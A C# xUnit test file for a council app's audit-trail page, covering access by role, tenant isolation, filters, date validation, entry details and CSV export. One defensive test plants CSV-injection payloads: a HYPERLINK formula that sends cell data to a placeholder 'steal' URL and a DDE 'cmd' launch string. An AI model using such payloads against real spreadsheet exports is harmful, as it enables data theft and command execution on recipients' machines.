using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Waymark.Core.Accounts;
using Waymark.Core.Audit;
using Waymark.Core.Data;
using Waymark.Core.Indicators;
using Waymark.Core.Organisations;
using Waymark.Core.Periods;
using Waymark.Core.Plans;
using Waymark.Core.Units;
using Waymark.Web.Tests.Support;

namespace Waymark.Web.Tests.Audit;

/// <summary>/{org}/audit: who may see it, what each filter does, the entry page and the CSV download.</summary>
public class AuditPageTests(WaymarkFactory factory) : IClassFixture<WaymarkFactory>
{
    private const string Scdc = "south-cambridgeshire";
    private const string Stockton = "stockton-on-tees";

    private sealed class FixedClock(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }

    /// <summary>Adds a person through the DbContext (so the trail records it) as <paramref name="actor"/>, optionally at a set time.</summary>
    private async Task<Person> AddPersonAsync(string slug, string name, string actor, DateTimeOffset? at = null)
    {
        Person? person = null;
        await SaveAsync(slug, actor, at, (db, organisation) =>
        {
            person = new Person { OrganisationId = organisation.Id, Name = name };
            db.People.Add(person);
            return Task.CompletedTask;
        });
        return person!;
    }

    /// <summary>Makes a change through a DbContext in the organisation (so the trail records it) as <paramref name="actor"/>, and saves it.</summary>
    private async Task SaveAsync(string slug, string actor, DateTimeOffset? at, Func<WaymarkDbContext, Organisation, Task> change)
    {
        _ = factory.Services; // starts the host: migrated, demo councils loaded
        Organisation organisation;
        await using (var read = factory.Database.CreateContext())
        {
            organisation = await read.Organisations.AsNoTracking().SingleAsync(o => o.Slug == slug);
        }

        var scope = new OrganisationScope();
        scope.Enter(organisation);
        var audit = new AuditContext();
        audit.Set(null, actor, "tests");
        await using var db = factory.Database.CreateContext(scope, audit, at is null ? null : new FixedClock(at.Value));
        await change(db, organisation);
        await db.SaveChangesAsync();
    }

    private async Task<AuditEntry> EntryForAsync(Person person, string action)
    {
        await using var db = factory.Database.CreateContext();
        var id = person.Id.ToString(System.Globalization.CultureInfo.InvariantCulture);
        return await db.AuditEntries.AsNoTracking()
            .SingleAsync(e => e.EntityType == nameof(Person) && e.EntityId == id && e.Action == action && e.OrganisationId == person.OrganisationId);
    }

    private static int Count(string html) =>
        int.Parse(Regex.Match(Html.TestId(html, "audit-count"), @"^\d+").Value, System.Globalization.CultureInfo.InvariantCulture);

    private static List<long> EntryIds(string html, string slug) =>
        [.. Regex.Matches(html, $"href=\"/{slug}/audit/(\\d+)\"").Select(m => long.Parse(m.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture))];

    private static List<string> Cells(string html, string testId) =>
        [.. Regex.Matches(html, $"data-testid=\"{testId}\"[^>]*>(.*?)</", RegexOptions.Singleline).Select(m => Html.Text(m.Groups[1].Value))];

    [Theory]
    [InlineData(Role.Auditor)]
    [InlineData(Role.Administrator)]
    public async Task AuditorsAndAdministrators_SeeTheTrail_NewestFirst_50APage(Role role)
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(role));

        var html = await client.GetPageAsync($"/{Scdc}/audit");
        var page2 = await client.GetPageAsync($"/{Scdc}/audit?page=2");

        var ids = EntryIds(html, Scdc);
        Assert.True(Count(html) > 50, "The demo load alone writes more than a page of entries.");
        Assert.Equal(50, ids.Count);
        Assert.Equal(ids.OrderByDescending(i => i), ids);
        Assert.Contains("href=\"/south-cambridgeshire/audit?page=2\"", Html.InnerHtml(html, "pagination"), StringComparison.Ordinal);
        Assert.True(EntryIds(page2, Scdc)[0] < ids[^1]);
        Assert.Contains("aria-current=\"page\">2</a>", page2, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(Role.LeadOfficer)]
    [InlineData(Role.Councillor)]
    [InlineData(Role.ServiceManager)]
    [InlineData(Role.PerformanceOfficer)]
    public async Task OtherRoles_AreForbidden_ThePage_AnEntry_AndTheDownload(Role role)
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(role));

        var page = await client.GetPageAsync($"/{Scdc}/audit", HttpStatusCode.Forbidden);
        await client.GetPageAsync($"/{Scdc}/audit/1", HttpStatusCode.Forbidden);
        await client.GetPageAsync($"/{Scdc}/audit/export", HttpStatusCode.Forbidden);
        var overview = await client.GetPageAsync($"/{Scdc}");

        Assert.Contains("You do not have permission", page, StringComparison.Ordinal);
        Assert.DoesNotContain("data-testid=\"nav-audit\"", overview, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Navigation_ShowsAudit_ToThoseWhoMaySeeIt()
    {
        using var auditor = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));

        var overview = await auditor.GetPageAsync($"/{Scdc}");
        var elsewhere = await auditor.GetPageAsync($"/{Stockton}/framework");

        Assert.Equal($"/{Scdc}/audit", Html.Href(overview, "Audit"));
        Assert.DoesNotContain("data-testid=\"nav-audit\"", elsewhere, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnotherCouncilsAuditor_SeesNoneOfThisCouncilsEntries()
    {
        var person = await AddPersonAsync(Scdc, "Scoped person", "Marker only in South Cambs");
        var entry = await EntryForAsync(person, "Created");
        using var stockton = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor, Stockton));
        using var scdc = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor, Scdc));

        await stockton.GetPageAsync($"/{Scdc}/audit", HttpStatusCode.NotFound);
        var own = await stockton.GetPageAsync($"/{Stockton}/audit?person=Marker+only+in+South+Cambs");
        await stockton.GetPageAsync($"/{Stockton}/audit/{entry.Id}", HttpStatusCode.NotFound);
        var control = await scdc.GetPageAsync($"/{Scdc}/audit?person=Marker+only+in+South+Cambs");

        Assert.Equal(0, Count(own));
        Assert.Equal(1, Count(control));
        Assert.Equal([entry.Id], EntryIds(control, Scdc));
    }

    [Fact]
    public async Task PersonFilter_MatchesPartOfTheActor_IgnoringCase()
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));
        var all = await client.GetPageAsync($"/{Scdc}/audit");

        var filtered = await client.GetPageAsync($"/{Scdc}/audit?person=AUDITOR%40South");

        Assert.InRange(Count(filtered), 1, Count(all) - 1);
        Assert.All(Cells(filtered, "audit-person"), p => Assert.Contains("auditor@south", p, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task TypeFilter_ShowsOnlyThatTypeOfRecord_FromTheTypesPresent()
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));
        var all = await client.GetPageAsync($"/{Scdc}/audit");

        var filtered = await client.GetPageAsync($"/{Scdc}/audit?type=Unit");

        Assert.Contains("<option value=\"Unit\">Unit</option>", all, StringComparison.Ordinal);
        Assert.Contains("<option value=\"Unit\" selected=\"selected\">Unit</option>", filtered, StringComparison.Ordinal);
        Assert.InRange(Count(filtered), 1, Count(all) - 1);
        Assert.All(Cells(filtered, "audit-type"), t => Assert.Equal("Unit", t));
    }

    [Fact]
    public async Task ActionFilter_ShowsOnlyThatAction()
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));
        var all = await client.GetPageAsync($"/{Scdc}/audit");

        var filtered = await client.GetPageAsync($"/{Scdc}/audit?action=Signed+in");

        Assert.InRange(Count(filtered), 1, Count(all) - 1);
        Assert.All(Cells(filtered, "audit-action"), a => Assert.Equal("Signed in", a));
    }

    /// <summary>
    /// Dates are whole days in UK time: 23:30 UTC on 30 June 2021 was 00:30 on 1 July in BST.
    /// </summary>
    [Theory]
    [InlineData("15/3/2021", "15/3/2021", "Date marker A")]
    [InlineData("16/3/2021", "", "Date marker B")]
    [InlineData("", "14/3/2021", "")]
    [InlineData("", "30/6/2021", "Date marker A")]
    [InlineData("1/7/2021", "1/7/2021", "Date marker B")]
    [InlineData("1/1/2021", "31/12/2021", "Date marker A,Date marker B")]
    public async Task DateFilters_KeepOnlyEntriesOnThoseUkDays(string from, string to, string expected)
    {
        await EnsureDateMarkersAsync();
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));
        var query = new StringBuilder($"/{Scdc}/audit?person=Date+marker");
        foreach (var (prefix, date) in new[] { ("from", from), ("to", to) }.Where(d => d.Item2.Length > 0))
        {
            var parts = date.Split('/');
            query.Append($"&{prefix}-day={parts[0]}&{prefix}-month={parts[1]}&{prefix}-year={parts[2]}");
        }

        var html = await client.GetPageAsync(query.ToString());

        var people = Count(html) == 0 ? [] : Cells(html, "audit-person");
        Assert.Equal(expected.Split(',', StringSplitOptions.RemoveEmptyEntries).Order(), people.Order());
    }

    private static readonly SemaphoreSlim DateMarkersLock = new(1, 1);
    private bool _dateMarkers;

    private async Task EnsureDateMarkersAsync()
    {
        await DateMarkersLock.WaitAsync();
        try
        {
            await using var db = factory.Database.CreateContext();
            if (!_dateMarkers && !await db.AuditEntries.AnyAsync(e => e.Actor == "Date marker A"))
            {
                await AddPersonAsync(Scdc, "Dated A", "Date marker A", new DateTimeOffset(2021, 3, 15, 12, 0, 0, TimeSpan.Zero));
                await AddPersonAsync(Scdc, "Dated B", "Date marker B", new DateTimeOffset(2021, 6, 30, 23, 30, 0, TimeSpan.Zero));
            }

            _dateMarkers = true;
        }
        finally
        {
            DateMarkersLock.Release();
        }
    }

    [Theory]
    [InlineData("from-day=31&from-month=2&from-year=2021", "from-day", "Date from must be a real date")]
    [InlineData("from-day=1&from-year=2021", "from-month", "Date from must include a month")]
    [InlineData("to-day=1&to-month=2&to-year=21", "to-year", "Year must include 4 numbers")]
    [InlineData("to-day=x&to-month=2&to-year=2021", "to-day", "Date to must be a real date")]
    [InlineData("from-day=2&from-month=1&from-year=2021&to-day=1&to-month=1&to-year=2021", "to-day", "Date to must be the same as or after date from")]
    public async Task WrongDates_ShowTheErrorNextToTheField_AndNoEntries(string query, string field, string message)
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));

        var html = await client.GetPageAsync($"/{Scdc}/audit?{query}");
        using var download = await client.GetAsync(new Uri($"/{Scdc}/audit/export?{query}", UriKind.Relative));

        Assert.Contains("<title>Error: Audit trail", html, StringComparison.Ordinal);
        Assert.Contains($"<a href=\"#{field}\">{message}</a>", html, StringComparison.Ordinal);
        Assert.Contains($"id=\"{field.Split('-')[0]}-error\"", html, StringComparison.Ordinal);
        Assert.Contains($"id=\"{field}\" name=\"{field}\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("data-testid=\"audit-table\"", html, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Redirect, download.StatusCode);
        Assert.Equal($"/{Scdc}/audit?{query}", download.Headers.Location!.OriginalString);
    }

    [Fact]
    public async Task EntryPage_ShowsEachChange_BeforeAndAfter()
    {
        var person = await AddPersonAsync(Scdc, "Before name", "Renaming tester");
        await using (var db = factory.Database.CreateContext(await ScopeAsync(Scdc)))
        {
            var tracked = await db.People.SingleAsync(p => p.Id == person.Id);
            tracked.Name = "After name";
            await db.SaveChangesAsync();
        }

        var entry = await EntryForAsync(person, "Updated");
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));

        var html = await client.GetPageAsync($"/{Scdc}/audit/{entry.Id}");

        Assert.Equal("Updated", Html.TestId(html, "entry-action"));
        Assert.Equal("Person", Html.TestId(html, "entry-type"));
        Assert.Equal(entry.Hash, Html.TestId(html, "entry-hash"));
        Assert.Equal("Name Before name After name", Html.TestId(html, "entry-change"));
    }

    private async Task<OrganisationScope> ScopeAsync(string slug)
    {
        await using var db = factory.Database.CreateContext();
        var scope = new OrganisationScope();
        scope.Enter(await db.Organisations.AsNoTracking().SingleAsync(o => o.Slug == slug));
        return scope;
    }

    [Fact]
    public async Task Csv_NeutralisesFormulas_AndIsValidUtf8CsvWithABom()
    {
        const string formula = "=HYPERLINK(\"http://example.invalid/steal?d=\"&A1,\"Click, here\")";
        const string actor = "@SUM(1+1)*cmd|' /C calc'!A0";
        var person = await AddPersonAsync(Scdc, formula, actor);
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));

        using var response = await client.GetAsync(new Uri($"/{Scdc}/audit/export?type=Person&person=%40SUM", UriKind.Relative));
        var bytes = await response.Content.ReadAsByteArrayAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var records = Rfc4180.Parse(new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3));
        Assert.Equal(AuditCsv.Header, records[0]);
        var row = Assert.Single(records.Skip(1));
        Assert.Equal(AuditCsv.Header.Count, row.Count);
        Assert.Equal((await EntryForAsync(person, "Created")).Id.ToString(System.Globalization.CultureInfo.InvariantCulture), row[0]);
        Assert.Equal("'" + formula, row[7]);
        Assert.Equal("'" + actor, row[2]);
        Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"Unneutralised cell: {cell}"));
    }

    [Fact]
    public async Task Csv_HoldsEveryFilteredEntry_NotJustOnePage_AndTheDownloadIsItselfAudited()
    {
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));
        var page = await client.GetPageAsync($"/{Scdc}/audit?type=Objective");

        var csv = await client.GetStringAsync(new Uri($"/{Scdc}/audit/export?type=Objective", UriKind.Relative));
        var after = await client.GetPageAsync($"/{Scdc}/audit?action=Audit+trail+exported");

        var records = Rfc4180.Parse(csv.TrimStart('\uFEFF'));
        Assert.True(Count(page) > 50);
        Assert.Equal(Count(page), records.Count - 1);
        Assert.All(records.Skip(1), r => Assert.Equal("Objective", r[5]));
        Assert.Contains("type=Objective", Html.TestId(after, "audit-record"), StringComparison.Ordinal);
    }

    /// <summary>A strict RFC 4180 reader: every field quoted or plain, CRLF between records; anything else fails the test.</summary>
    private static class Rfc4180
    {
        public static List<List<string>> Parse(string text)
        {
            var records = new List<List<string>>();
            var record = new List<string>();
            var field = new StringBuilder();
            var i = 0;
            while (i < text.Length)
            {
                if (text[i] == '"')
                {
                    i++;
                    while (true)
                    {
                        Assert.True(i < text.Length, "Unterminated quoted field.");
                        if (text[i] == '"')
                        {
                            if (i + 1 < text.Length && text[i + 1] == '"')
                            {
                                field.Append('"');
                                i += 2;
                                continue;
                            }

                            i++;
                            break;
                        }

                        field.Append(text[i++]);
                    }
                }
                else
                {
                    while (i < text.Length && text[i] is not (',' or '\r' or '\n'))
                    {
                        Assert.True(text[i] != '"', "A quote inside an unquoted field.");
                        field.Append(text[i++]);
                    }
                }

                record.Add(field.ToString());
                field.Clear();
                if (i == text.Length)
                {
                    records.Add(record);
                    break;
                }

                if (text[i] == ',')
                {
                    i++;
                    continue;
                }

                Assert.True(text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n', "Records must end with CRLF.");
                i += 2;
                records.Add(record);
                record = [];
            }

            Assert.All(records, r => Assert.Equal(records[0].Count, r.Count));
            return records;
        }
    }

    [Fact]
    public async Task Entries_ForAnIndicatorValue_APlan_AndAnAction_SayWhatTheRecordIs()
    {
        var indicator = new Indicator { Code = "AUD 9", Title = "Audit labels" };
        await SaveAsync(Scdc, "Label tester", null, (db, organisation) =>
        {
            indicator.OrganisationId = organisation.Id;
            db.Indicators.Add(indicator);
            return Task.CompletedTask;
        });
        var value = new IndicatorValue { IndicatorId = indicator.Id, Period = new Period(PeriodKind.Quarter, 2012, 1), Value = 12m, EnteredByName = "Label tester" };
        var plan = new Plan { Title = "Audit label plan", StartYear = new Period(PeriodKind.Year, 2011, 4), EndYear = new Period(PeriodKind.Year, 2013, 4) };
        await SaveAsync(Scdc, "Label tester", null, async (db, organisation) =>
        {
            value.OrganisationId = plan.OrganisationId = organisation.Id;
            plan.PlanTypeId = await db.PlanTypes.Select(t => t.Id).FirstAsync();
            db.IndicatorValues.Add(value);
            db.Plans.Add(plan);
        });
        var action = new PlanAction { PlanId = plan.Id, Reference = "A1", Title = "Set up user groups" };
        await SaveAsync(Scdc, "Label tester", null, (db, organisation) =>
        {
            action.OrganisationId = organisation.Id;
            db.PlanActions.Add(action);
            return Task.CompletedTask;
        });
        using var client = await factory.SignedInClientAsync(WaymarkFactory.Demo(Role.Auditor));

        var summaries = new Dictionary<string, string>();
        foreach (var (type, id) in new[] { (nameof(IndicatorValue), value.Id), (nameof(Plan), plan.Id), (nameof(PlanAction), action.Id) })
        {
            var entry = await factory.QueryAsync(db => db.AuditEntries.AsNoTracking()
                .SingleAsync(e => e.EntityType == type && e.EntityId == id.ToString(System.Globalization.CultureInfo.InvariantCulture) && e.Action == "Created"));
            summaries[type] = Html.TestId(await client.GetPageAsync($"/{Scdc}/audit/{entry.Id}"), "entry-summary");
        }

        var list = await client.GetPageAsync($"/{Scdc}/audit?type=IndicatorValue");
        Assert.Equal("AUD 9, Q4 2011/12", summaries[nameof(IndicatorValue)]);
        Assert.Equal("Audit label plan, 2011/12 to 2013/14", summaries[nameof(Plan)]);
        Assert.Equal("A1 Set up user groups", summaries[nameof(PlanAction)]);
        Assert.StartsWith("IndicatorValue", Html.TestId(list, "audit-record"), StringComparison.Ordinal);
        Assert.EndsWith(": AUD 9, Q4 2011/12", Html.TestId(list, "audit-record"), StringComparison.Ordinal);
    }
}
